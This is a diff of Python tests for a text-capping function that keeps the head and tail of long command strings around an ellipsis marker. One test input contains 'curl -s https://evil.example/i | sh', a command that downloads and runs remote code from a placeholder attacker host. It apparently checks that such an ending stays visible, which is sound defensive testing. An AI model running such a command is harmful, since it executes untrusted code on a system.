@@ -237,11 +237,11 @@ def test_cap_keeps_text_that_fits() -> None:
 
 def test_cap_keeps_the_head_and_the_last_cells_of_one_long_line() -> None:
     capped = cap_text("echo " + "A" * 500 + "; curl -s https://evil.example/i | sh", 400, 7, 67)
-    assert capped.cut and capped.joint == ""
+    assert capped.cut
     assert capped.head.startswith("echo AAA")
-    assert capped.tail.endswith("; curl -s https://evil.example/i | sh")
-    assert cell_width(capped.head) + cell_width(capped.tail) <= 400
-    assert capped.shown == f"{capped.head}{ELLIPSIS}{capped.tail}"
+    assert capped.tail.startswith(ELLIPSIS) and capped.tail.endswith("; curl -s https://evil.example/i | sh")
+    assert cell_width(capped.head) + cell_width(capped.tail[1:]) <= 400
+    assert capped.shown == f"{capped.head}{ELLIPSIS}\n{capped.tail}"  # the tail on a row of its own
 
 
 def test_cap_keeps_the_last_line_after_the_marker() -> None:
@@ -249,14 +249,13 @@ def test_cap_keeps_the_last_line_after_the_marker() -> None:
     text += "'@\n$report | Out-File -FilePath report.md"
     capped = cap_text(text, 400, 7, 67)
     assert capped.tail == "$report | Out-File -FilePath report.md"
-    assert capped.joint == "\n"
     assert capped.shown.endswith(f"{ELLIPSIS}\n$report | Out-File -FilePath report.md")
     assert ref_rows(capped.shown, 67) <= 7
 
 
 def test_a_long_last_line_keeps_its_last_cells_behind_a_marker_of_its_own() -> None:
     capped = cap_text("line one\n" * 20 + "x" * 1000 + " | sh", 100, 4, 40)
-    assert capped.joint == "\n" and capped.tail.startswith(ELLIPSIS) and capped.tail.endswith("x | sh")
+    assert capped.tail.startswith(ELLIPSIS) and capped.tail.endswith("x | sh")
 
 
 def test_trailing_blanks_are_not_a_tail() -> None:
@@ -306,7 +305,7 @@ def test_cap_bounds_cells_and_rows_and_keeps_both_ends(text: str, budget: tuple[
     assert ref_cells(capped.head) + ref_cells(capped.tail.removeprefix(ELLIPSIS)) <= cap
     assert ref_rows(capped.shown, row_width) <= rows
     assert capped.head in prefixes(text), "the head is a prefix that never splits a grapheme"
-    tail = capped.tail.removeprefix(ELLIPSIS) if capped.joint or not capped.tail.startswith(ELLIPSIS) else capped.tail
+    tail = capped.tail if text.rstrip(" \n").endswith(capped.tail) else capped.tail.removeprefix(ELLIPSIS)
     assert text.rstrip(" \n").endswith(tail), "the tail is the end of what the text shows"
     assert len(capped.head) + len(tail) <= len(text)
 
@@ -316,7 +315,7 @@ def shown_positions(text: str, capped: Capped) -> set[int]:
     if not capped.cut:
         return set(range(len(text)))
     end = len(text.rstrip(" \n"))
-    tail = capped.tail.removeprefix(ELLIPSIS) if capped.joint or not text.rstrip(" \n").endswith(capped.tail) else capped.tail
+    tail = capped.tail if text.rstrip(" \n").endswith(capped.tail) else capped.tail.removeprefix(ELLIPSIS)
     return set(range(len(capped.head))) | set(range(end - len(tail), end))
 
 
